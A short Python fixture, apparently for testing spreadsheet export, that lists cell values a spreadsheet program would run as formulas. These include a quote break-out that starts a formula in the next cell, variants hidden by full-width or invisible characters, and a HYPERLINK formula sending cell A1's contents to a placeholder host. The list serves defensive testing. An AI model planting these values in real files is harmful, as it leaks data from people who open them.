"""Cells that a spreadsheet program would take for a formula, and one that would leave its cell and begin one in the next."""

from __future__ import annotations

BREAK_OUT = 'x","=1+1","y'
"""Harmless once it has stayed one cell."""
FORMULAS = [
    '=HYPERLINK("http://e/?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
    " =1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    BREAK_OUT,
    "name\n=1",
    "＠SUM(1)",
    "－1",
    '"=1"',
    "'=1",
    "''+1",
]
